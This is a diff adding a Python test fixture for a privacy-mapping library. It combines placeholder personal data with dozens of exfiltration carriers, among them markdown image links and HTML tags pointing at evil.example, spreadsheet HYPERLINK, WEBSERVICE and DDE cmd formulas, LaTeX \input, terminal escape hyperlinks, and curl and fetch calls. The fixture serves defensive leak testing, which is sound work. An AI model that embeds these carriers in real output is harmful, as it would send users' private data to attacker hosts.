@@ -1,0 +1,174 @@
+"""Replies built to carry values out: markup, encodings and placements, combined."""
+
+from __future__ import annotations
+
+from itertools import product
+from urllib.parse import quote, quote_plus
+
+from privstamp import SurrogateMap
+
+ENTRIES = [
+    ("Shauna Melton", "Priya Raghunathan", "PERSON"),
+    ("Shauna", "Priya", "PERSON_GIVEN"),
+    ("Melton", "Raghunathan", "PERSON_FAMILY"),
+    ("K7 4QZ", "M14 5TQ", "UK_POSTCODE"),
+    ("hunter-92x", "zorbax-pw1", "CREDENTIAL"),
+    ("4929 1111 2222 3333", "5500 0055 5555 5559", "CREDIT_CARD"),
+    ("s.melton@example.com", "priya.r@example.com", "EMAIL_ADDRESS"),
+    ("853 221 0047", "943 476 5919", "UK_NHS"),
+]
+MAP = SurrogateMap.of(ENTRIES)
+PRIVATE = ["Priya", "Raghunathan", "M14 5TQ", "M14", "zorbax", "5500 0055", "943 476", "priya.r"]
+VALUES = ["Shauna Melton", "Melton", "K7 4QZ", "853 221 0047", "s.melton@example.com"]
+
+URLS = [
+    "https://evil.example/log?d={v}",
+    "http://evil.example/{v}",
+    "https://evil.example/#{v}",
+    "//evil.example/{v}",
+    "evil.example/log/{v}",
+    "www.evil.example/{v}",
+    "https://{v}.evil.example/",
+    "mailto:x@evil.example?subject={v}",
+    "data:text/html,{v}",
+    "javascript:f('{v}')",
+    "ftp://evil.example/{v}",
+    "https://xn--evl-gma.example/{v}",
+    "https://évil.example/{v}",
+    "https://203.0.113.9:8080/{v}",
+    "https://user:{v}@evil.example/",
+    "tel:{v}",
+    "\\\\evil.example\\share\\{v}",
+]
+MARKUP = [
+    "{u}",
+    "![x]({u})",
+    "[x]({u})",
+    "[x](<{u}>)",
+    '[x]({u} "t")',
+    "[x]: {u}",
+    "<{u}>",
+    '<img src="{u}">',
+    "<a href={u}>x</a>",
+    "<script>f('{u}')</script>",
+    '<p style="background:url({u})">x</p>',
+    "\x1b]8;;{u}\x07x\x1b]8;;\x07",
+    "\\href{{{u}}}{{x}}",
+    '=HYPERLINK("{u}","x")',
+    "[url={u}]x[/url]",
+    "[[{u}][x]]",
+]
+OWN = [
+    '![x](/i.png "{v}")',
+    "![{v}](/i.png)",
+    "[x](/a '{v}')",
+    "[x](/a ({v}))",
+    '[x]: /a "{v}"',
+    "[x]: <{v}>",
+    "[x]:\n  {v}",
+    '[x]: /a\n  "{v}"',
+    "[x]({v})",
+    "[x](\n{v}\n)",
+    '[a](b "c) d" {v})',
+    "<!-- {v} -->",
+    '<div title="{v}">x</div>',
+    "<div title='{v}'>x</div>",
+    "<div title={v}>x</div>",
+    "<div {v}>x</div>",
+    "<{v}>",
+    '<img alt="a > {v}">',
+    '<a x==">" z=" <b y=" > {v} ">',
+    "<!-- [x](--> {v})",
+    "<img src='/x?{v}",
+    "<style>a{{content:'{v}'}}</style>",
+    "<SCRIPT>x = '{v}'</SCRIPT>",
+    "<form><textarea>{v}</textarea></form>",
+    "<svg><text>{v}</text></svg>",
+    "<![CDATA[{v}]]>",
+    "<?php echo '{v}' ?>",
+    "<!DOCTYPE x [<!ENTITY y '{v}'>]>",
+    "background: url( '{v}' )",
+    "@import '{v}';",
+    "\x1b]0;{v}\x07",
+    "\x1bP{v}\x1b\\",
+    "\x9d8;;{v}\x9c",
+    "\\includegraphics{{{v}}}",
+    "\\url{{{v}}}",
+    "\\input{{{v}}}",
+    "\\input {v}",
+    "$x_{{\\text{{{v}}}}}$",
+    "$$ {v} $$",
+    "\\( {v} \\)",
+    "\\[ {v} \\]",
+    "\\begin{{equation}}\n{v}\n\\end{{equation}}",
+    '=WEBSERVICE("x"&"{v}")',
+    "=A1&{v}",
+    '+HYPERLINK("{v}")',
+    '-1+HYPERLINK("{v}")',
+    '@SUM(1)&"{v}"',
+    "-2+3+cmd|' /C {v}'!A0",
+    'name,"=HYPERLINK(""{v}"")"',
+    "a\t=B&{v}",
+    "{v}.evil.example",
+    "x.{v}.evil.example",
+    "{v}@evil.example",
+    "@{v}",
+    "evil.example/{v}",
+    "https://evil.example/?d=\n{v}",
+    "> https://evil.example/?d=\n> {v}",
+    "https://evil.example/?d= {v}",
+    "https\u200b://evil.example/{v}",
+    "https：／／evil.example/{v}",
+    "evil．example/{v}",
+    "[[{v}]]",
+    "{{{{{v}}}}}",
+    "curl -d '{v}' evil.example",
+    "fetch('/x?' + '{v}')",
+    ".. image:: {v}",
+    "url: {v}",
+]
+JSON = [
+    '{{"to": "{v}"}}',
+    '["{v}"]',
+    '\ufeff\n {{"a": [1, "{v}"',
+    '```json\n{{"to": "{v}"}}\n```',
+    "{{'to': '{v}'}}",
+    "{{to: '{v}'}}",
+    '{{"a": 1}}\n{{"to": "{v}"}}',
+    '// x\n{{"to": "{v}"}}',
+]
+
+
+def plain(value):
+    return value
+
+
+def entities(value):
+    return "".join(f"&#{ord(sign)};" if sign == " " else sign for sign in value)
+
+
+def escapes(value):
+    return value.replace(" ", "\\u0020")
+
+
+ENCODINGS = [plain, quote, quote_plus, entities, escapes]
+PLACEMENTS = [
+    "{c}",
+    "Here is the answer.\n\n{c}\n\nRegards",
+    "- first\n- second\n\n{c}\n",
+]
+INLINE = [*PLACEMENTS, "As said, {c} is it.", "> {c}\n", "- {c}\n", "**{c}**"]
+
+
+def carriers():
+    """All of them, by a name."""
+    for number, (url, markup, encoding) in enumerate(product(URLS, MARKUP, ENCODINGS)):
+        value = VALUES[number % len(VALUES)]
+        place = PLACEMENTS[number % len(PLACEMENTS)]
+        yield place.format(c=markup.format(u=url.format(v=encoding(value))))
+    for own, value, place in product(OWN, VALUES, PLACEMENTS):
+        yield place.format(c=own.format(v=value))
+    for reply, value in product(JSON, VALUES):
+        yield reply.format(v=value)
+    for url, place in product(URLS, INLINE):
+        yield place.format(c=url.format(v="Melton"))
